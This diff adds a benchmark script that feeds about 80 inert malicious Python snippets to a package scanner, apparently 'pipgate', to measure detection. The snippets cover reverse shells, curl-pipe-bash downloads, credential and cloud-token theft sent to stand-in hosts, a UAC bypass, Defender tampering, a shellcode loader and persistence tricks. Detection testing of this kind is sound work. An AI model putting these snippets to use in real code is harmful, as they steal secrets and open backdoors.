@@ -1,0 +1,155 @@
+"""Behaviour probes for the content scan: about 80 generic malicious behaviours written as
+small inert snippets, each placed at install time (``setup.py``), at import time (a package's
+``__init__.py``) and inside a function of a module the package imports; prints how many of
+the placements the scan holds, per place, and which it does not.
+
+The snippets were written from what stealers, droppers and backdoors are known to do, not
+from the evaluation data, so they check behaviours rather than campaigns. They are text
+handed to the scanner; nothing runs them. Usage::
+
+    .venv/bin/python -m benchmarks.scan_probes [--misses]
+"""
+
+from __future__ import annotations
+
+import argparse
+import textwrap
+
+from pipgate.policies.scan import ScanPolicy
+from pipgate.proxy.scan import scan_archive
+from tests.support.archives import pkg_info, sdist, wheel
+
+PROBES: dict[str, str] = {
+    "poll_shell": 'import requests, subprocess, time\nwhile True:\n    cmd = requests.get("https://cdn-update.example.com/task").text\n    out = subprocess.check_output(cmd, shell=True)\n    requests.post("https://cdn-update.example.com/result", data=out)\n    time.sleep(30)',
+    "socket_shell": 'import socket, subprocess\ns = socket.socket()\ns.connect(("update-service.example.net", 4444))\nwhile True:\n    data = s.recv(1024).decode()\n    proc = subprocess.run(data, shell=True, capture_output=True)\n    s.send(proc.stdout + proc.stderr)',
+    "smtp_exfil": 'import smtplib, socket, getpass, os\nmsg = f"Subject: new\\n\\n{socket.gethostname()} {getpass.getuser()} {dict(os.environ)}"\nserver = smtplib.SMTP("smtp.gmail.com", 587)\nserver.starttls()\nserver.login("updatesvc2025@gmail.com", "abcd efgh ijkl mnop")\nserver.sendmail("updatesvc2025@gmail.com", "updatesvc2025@gmail.com", msg)',
+    "ctypes_dll": 'import ctypes, os, sys\nhere = os.path.dirname(__file__)\nif sys.platform == "win32":\n    lib = ctypes.WinDLL(os.path.join(here, "terminate.dll"))\n    lib.envir()',
+    "discord_bot_rat": 'import discord, subprocess\nclient = discord.Client(intents=discord.Intents.all())\n@client.event\nasync def on_message(message):\n    out = subprocess.getoutput(message.content)\n    await message.channel.send(out)\nclient.run("MTEyMzQ1Njc4OTAxMjM0NTY3OA.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB")',
+    "walk_upload": 'import os, requests\nfor root, dirs, files in os.walk(os.path.expanduser("~")):\n    for name in files:\n        if name.endswith((".txt", ".pdf", ".docx", ".json", ".env")):\n            try:\n                requests.post("https://files-backup.example.org/up", files={"f": open(os.path.join(root, name), "rb")})\n            except Exception:\n                pass',
+    "dns_tunnel": 'import socket, os, binascii\ndata = binascii.hexlify(os.getlogin().encode()).decode()\nsocket.gethostbyname(data + ".x.trk-collector.example.com")',
+    "screenshot": 'from PIL import ImageGrab\nimport requests, io\nimg = ImageGrab.grab()\nbuf = io.BytesIO(); img.save(buf, "PNG")\nrequests.post("https://img-store.example.com/u", files={"s": buf.getvalue()})',
+    "keylogger": 'from pynput import keyboard\nimport requests\nkeys = []\ndef on_press(k):\n    keys.append(str(k))\n    if len(keys) > 50:\n        requests.post("https://logs.example.com/k", data="".join(keys)); keys.clear()\nkeyboard.Listener(on_press=on_press).start()',
+    "pickle_net": 'import pickle, urllib.request\npickle.loads(urllib.request.urlopen("https://models.example.com/cfg.bin").read())',
+    "wallet_patch": 'import requests\nfrom eth_account import Account\n_orig = Account.create\ndef create(*a, **k):\n    acct = _orig(*a, **k)\n    requests.post("https://rpc-stats.example.com/v1", json={"k": acct.key.hex()})\n    return acct\nAccount.create = create',
+    "env_json": 'import os, json, urllib.request\nreq = urllib.request.Request("https://telemetry.example.io/c", data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)',
+    "websocket_c2": 'import websocket, subprocess, json\nws = websocket.create_connection("wss://relay.example.net/agent")\nwhile True:\n    job = json.loads(ws.recv())\n    ws.send(subprocess.getoutput(job["cmd"]))',
+    "launchagent": 'import os, urllib.request\np = os.path.expanduser("~/Library/LaunchAgents/com.apple.updater.plist")\nopen(p, "w").write(\'<plist><dict><key>ProgramArguments</key><array><string>/tmp/.u</string></array></dict></plist>\')\nurllib.request.urlretrieve("https://dl.example.com/u", "/tmp/.u")\nos.chmod("/tmp/.u", 0o755)',
+    "systemd_user": 'import os, subprocess\nd = os.path.expanduser("~/.config/systemd/user"); os.makedirs(d, exist_ok=True)\nopen(d + "/dbus-helper.service", "w").write("[Service]\\nExecStart=/bin/bash -c \'curl -s https://x.example.com/a | bash\'\\n")\nsubprocess.run(["systemctl", "--user", "enable", "--now", "dbus-helper"])',
+    "pyc_payload": 'import marshal, importlib.util, os\ncode = marshal.loads(open(os.path.join(os.path.dirname(__file__), "_core.bin"), "rb").read())\nexec(code)',
+    "gist_exec": 'import requests\nexec(requests.get("https://gist.githubusercontent.com/someone/abc/raw/x.py").text)',
+    "getattr_import": 'm = __import__("subprocess")\ngetattr(m, "Popen")(["sh", "-c", "wget -qO- http://185.199.1.2/s | sh"])',
+    "passwd": 'import requests\nrequests.post("https://a.example.com", data=open("/etc/passwd").read())',
+    "ssh_keys": 'import os, requests, glob\nfor f in glob.glob(os.path.expanduser("~/.ssh/id_*")):\n    requests.post("https://keys.example.com", data=open(f).read())',
+    "git_creds": 'import os, requests\nrequests.post("https://a.example.com/g", data=open(os.path.expanduser("~/.git-credentials")).read())',
+    "npmrc_pypirc": 'import os, requests\nfor f in ("~/.pypirc", "~/.npmrc", "~/.netrc", "~/.docker/config.json"):\n    p = os.path.expanduser(f)\n    if os.path.exists(p):\n        requests.post("https://a.example.com/t", data=open(p).read())',
+    "env_token": 'import os, requests\nrequests.post("https://a.example.com/t", json={"gh": os.environ.get("GITHUB_TOKEN"), "npm": os.getenv("NPM_TOKEN")})',
+    "b64_url_exec_in_func": 'import base64, urllib.request\nu = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmNvbS9wLnB5").decode()\nexec(urllib.request.urlopen(u).read())',
+    "download_exe_startfile": 'import os, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), "svchost.exe")\nurllib.request.urlretrieve("https://cdn.example.com/a.exe", p)\nos.startfile(p)',
+    "powershell_iwr": 'import subprocess\nsubprocess.Popen("powershell -w hidden -c \\"iwr https://cdn.example.com/a.ps1 -useb | iex\\"", shell=True)',
+    "mshta": 'import os\nos.system("mshta https://cdn.example.com/a.hta")',
+    "nodejs_stage": 'import subprocess, urllib.request\nopen("/tmp/a.js","wb").write(urllib.request.urlopen("https://cdn.example.com/a.js").read())\nsubprocess.Popen(["node", "/tmp/a.js"])',
+    "chrome_cookies": 'import os, sqlite3, shutil, requests\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Network", "Cookies")\nshutil.copy(p, "c.db")\nrows = sqlite3.connect("c.db").execute("select host_key, name, encrypted_value from cookies").fetchall()\nrequests.post("https://a.example.com/c", data=str(rows))',
+    "exodus_wallet": 'import os, shutil, zipfile, requests\nsrc = os.path.join(os.getenv("APPDATA"), "Exodus", "exodus.wallet")\nshutil.make_archive("w", "zip", src)\nrequests.post("https://a.example.com/w", files={"w": open("w.zip", "rb")})',
+    "http_server_backdoor": 'import http.server, subprocess, threading\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        out = subprocess.check_output(self.path[1:], shell=True)\n        self.send_response(200); self.end_headers(); self.wfile.write(out)\nthreading.Thread(target=http.server.HTTPServer(("0.0.0.0", 8765), H).serve_forever, daemon=True).start()',
+    "lambda_obf": "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==Qf'))",
+    "bytes_exec": "exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115]).decode())",
+    "compile_exec": 'import zlib\nc = compile(zlib.decompress(b\'x\\x9c+\\xc9\\xc8,V\\x00\\x00\'), "<x>", "exec")\nexec(c)',
+    "stego_file": 'import base64, os\nhere = os.path.dirname(__file__)\ndata = open(os.path.join(here, "logo.png"), "rb").read()\nexec(base64.b64decode(data[4096:]))',
+    "import_downloaded": 'import importlib.util, tempfile, os, urllib.request\np = os.path.join(tempfile.gettempdir(), "helper.py")\nurllib.request.urlretrieve("https://cdn.example.com/h.py", p)\nspec = importlib.util.spec_from_file_location("helper", p)\nmod = importlib.util.module_from_spec(spec); spec.loader.exec_module(mod)',
+    "python_c_network": 'import subprocess, sys, requests\ncode = requests.get("https://cdn.example.com/c").text\nsubprocess.Popen([sys.executable, "-c", code])',
+    "shellcode": 'import ctypes, base64\nbuf = base64.b64decode(open("x.bin","rb").read())\nptr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(ptr, buf, len(buf))\nh = ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\nctypes.windll.kernel32.WaitForSingleObject(h, -1)',
+    "json_cmd": 'import requests, os\ntask = requests.get("https://api.example.com/t").json()\nos.system(task["cmd"])',
+    "urlopen_exec_var": 'from urllib.request import urlopen as u\nx = u("https://cdn.example.com/p").read().decode()\ny = x\nexec(y)',
+    "aiohttp_exec": 'import aiohttp, asyncio\nasync def run():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("https://cdn.example.com/p") as r:\n            exec(await r.text())\nasyncio.run(run())',
+    "httpx_client_exec": 'import httpx\nwith httpx.Client() as c:\n    exec(c.get("https://cdn.example.com/p").text)',
+    "session_exec": 'import requests\ns = requests.Session()\nexec(s.get("https://cdn.example.com/p").text)',
+    "urllib3_exec": 'import urllib3\nhttp = urllib3.PoolManager()\nexec(http.request("GET", "https://cdn.example.com/p").data)',
+    "tmp_py_run": 'import requests, subprocess, sys, tempfile\nf = tempfile.NamedTemporaryFile(suffix=".py", delete=False)\nf.write(requests.get("https://cdn.example.com/p").content); f.close()\nsubprocess.Popen([sys.executable, f.name])',
+    "env_get_all_post": 'import os, requests\nrequests.post("https://collect.example.com", json={k: v for k, v in os.environ.items()})',
+    "hostinfo_get_params": 'import requests, platform, getpass\nrequests.get("https://collect.example.com/i", params={"u": getpass.getuser(), "n": platform.node()})',
+    "atexit": 'import atexit, os, requests\ndef _send():\n    requests.post("https://collect.example.com", json=dict(os.environ))\natexit.register(_send)',
+    "class_body": 'import os, requests\nclass Config:\n    data = requests.post("https://collect.example.com", data=str(os.environ))',
+    "try_except": 'import socket, getpass\ntry:\n    import requests\n    requests.get("https://collect.example.com/?u=" + getpass.getuser() + "&h=" + socket.gethostname())\nexcept Exception:\n    pass',
+    "thread_target": 'import threading, subprocess, requests\ndef _w():\n    subprocess.Popen(requests.get("https://c.example.com/cmd").text, shell=True)\nthreading.Thread(target=_w, daemon=True).start()',
+    "decorator_call": 'import requests, functools\ndef track(f):\n    requests.get("https://t.example.com/hit?f=" + f.__name__)\n    return f\n@track\ndef main(): pass',
+    "lambda_exec": 'import requests\nrun = lambda u: exec(requests.get(u).text)\nrun("https://c.example.com/p")',
+    "import_module_b64": 'import importlib, base64\nm = importlib.import_module(base64.b64decode("b3M=").decode())\nm.system("curl -s https://c.example.com/x | sh")',
+    "getattr_os_system": 'import os\ngetattr(os, "sys" + "tem")("wget -q -O- https://c.example.com/x | bash")',
+    "env_token_header_to_webhook": 'import os, requests\nrequests.post("https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghij", json={"content": os.getenv("AWS_SECRET_ACCESS_KEY")})',
+    "compile_network": 'import urllib.request\nsrc = urllib.request.urlopen("https://c.example.com/p").read()\ncode = compile(src, "x", "exec")\nexec(code)',
+    "marshal_file": 'import marshal, os\nexec(marshal.loads(open(os.path.join(os.path.dirname(__file__), "data.bin"), "rb").read()))',
+    "zip_import": 'import sys, os, urllib.request\nurllib.request.urlretrieve("https://c.example.com/lib.zip", "/tmp/lib.zip")\nsys.path.insert(0, "/tmp/lib.zip")\nimport evil_stage',
+    "revshell_fileno": 'import socket, subprocess\ns = socket.socket(); s.connect(("attacker.example.net", 9001))\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())',
+    "github_token_gist": 'import os, requests, json\nrequests.post("https://api.github.com/gists", headers={"Authorization": "token ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"},\n              json={"files": {"e.json": {"content": json.dumps(dict(os.environ))}}})',
+    "defender_off": 'import subprocess\nsubprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\\\Users"], capture_output=True)\nsubprocess.run("powershell Set-MpPreference -DisableRealtimeMonitoring $true", shell=True)',
+    "uac_bypass": 'import winreg, os\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Classes\\ms-settings\\Shell\\Open\\command")\nwinreg.SetValueEx(k, "DelegateExecute", 0, winreg.REG_SZ, "")\nwinreg.SetValueEx(k, None, 0, winreg.REG_SZ, "C:\\\\Users\\\\Public\\\\x.exe")\nos.system("fodhelper.exe")',
+    "anti_vm": 'import os, psutil, sys\nBLACKLIST_USERS = ["WDAGUtilityAccount", "Abby", "Peter Wilson", "hmarc", "patex"]\nBLACKLIST_PROCS = ["httpdebuggerui", "wireshark", "fiddler", "vboxservice", "vmtoolsd", "ollydbg", "x96dbg"]\nif os.getlogin() in BLACKLIST_USERS: sys.exit()\nfor p in psutil.process_iter():\n    if p.name().lower().replace(".exe", "") in BLACKLIST_PROCS: p.kill()',
+    "discord_inject": 'import os, glob, requests\nfor core in glob.glob(os.path.join(os.getenv("LOCALAPPDATA"), "Discord*", "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core", "index.js")):\n    open(core, "w").write(requests.get("https://raw.example.com/inject.js").text)',
+    "slack_token": 'import requests, socket, getpass\nrequests.post("https://slack.com/api/chat.postMessage", headers={"Authorization": "Bearer xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"},\n              json={"channel": "C01", "text": socket.gethostname() + getpass.getuser()})',
+    "concat_cmd": 'import os\nos.system("cu" + "rl -s htt" + "ps://x.example.com/a | ba" + "sh")',
+    "join_cmd": 'import subprocess\ncmd = " ".join(["curl", "-s", "https://x.example.com/a", "|", "bash"])\nsubprocess.Popen(cmd, shell=True)',
+    "fstring_url_exec": 'import urllib.request\nhost = "x.example.com"\nexec(urllib.request.urlopen(f"https://{host}/p").read())',
+    "reversed_url": 'import urllib.request\nu = "yp.p/moc.elpmaxe.x//:sptth"[::-1]\nexec(urllib.request.urlopen(u).read())',
+    "format_cmd": 'import os\nos.system("{} -s {} | {}".format("curl", "https://x.example.com/a", "sh"))',
+    "exec_file_txt": 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "notes.txt")).read())',
+    "getattr_builtins_exec": 'import builtins, requests\ngetattr(builtins, "ex" + "ec")(requests.get("https://x.example.com/p").text)',
+    "vars_exec": 'import requests\nvars(__builtins__)["exec"](requests.get("https://x.example.com/p").text) if isinstance(__builtins__, dict) is False else __builtins__["exec"](requests.get("https://x.example.com/p").text)',
+    "dotenv_send": 'import requests\nrequests.post("https://collect.example.com/e", data=open(".env").read())',
+    "imds": 'import requests\nrole = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text\ncreds = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role).text\nrequests.post("https://collect.example.com/aws", data=creds)',
+    "gcp_token": 'import requests\nt = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}).text\nrequests.post("https://collect.example.com/gcp", data=t)',
+    "kube_token": 'import requests\ntok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://collect.example.com/k8s", data=tok)',
+    "keyring_dump": 'import keyring, requests, getpass\npw = keyring.get_password("system", getpass.getuser())\nrequests.post("https://collect.example.com/kr", data=pw)',
+    "browser_history": 'import os, sqlite3, requests\ndb = os.path.expanduser("~/.config/google-chrome/Default/History")\nrows = sqlite3.connect(db).execute("select url from urls").fetchall()\nrequests.post("https://collect.example.com/h", json=rows)',
+}
+PLACES = ("install", "import", "function")
+
+
+def placements(code: str) -> dict[str, tuple[bytes, str]]:
+    """The snippet as install-time, import-time and function code of a project "quietlib"."""
+    code = textwrap.dedent(code).strip() + "\n"
+    body = textwrap.indent(code, "    ")
+    setup = "from setuptools import setup\n" + code + "\nsetup(name='quietlib', version='1.0')\n"
+    wheel_name = "quietlib-1.0-py3-none-any.whl"
+    return {
+        "install": (
+            sdist({"setup.py": setup, "PKG-INFO": pkg_info("quietlib")}, root="quietlib-1.0"),
+            "quietlib-1.0.tar.gz",
+        ),
+        "import": (wheel({"quietlib/__init__.py": code}, name="quietlib"), wheel_name),
+        "function": (
+            wheel(
+                {
+                    "quietlib/__init__.py": "from .client import connect\n",
+                    "quietlib/client.py": "def connect():\n" + body,
+                },
+                name="quietlib",
+            ),
+            wheel_name,
+        ),
+    }
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--misses", action="store_true", help="list the placements not held")
+    args = parser.parse_args()
+    policy = ScanPolicy()
+    held = dict.fromkeys(PLACES, 0)
+    misses = []
+    for name, code in PROBES.items():
+        for place, (archive, filename) in placements(code).items():
+            report = scan_archive(archive, filename)
+            if not policy.decide(report).allowed:
+                held[place] += 1
+            else:
+                misses.append(f"{name} ({place}): score {report.score:g}")
+    total = sum(held.values())
+    print(f"held {total} of {len(PROBES) * len(PLACES)} placements of {len(PROBES)} behaviours")
+    for place in PLACES:
+        print(f"  {place}: {held[place]}/{len(PROBES)}")
+    if args.misses:
+        print("\n".join(misses))
+
+
+if __name__ == "__main__":
+    main()
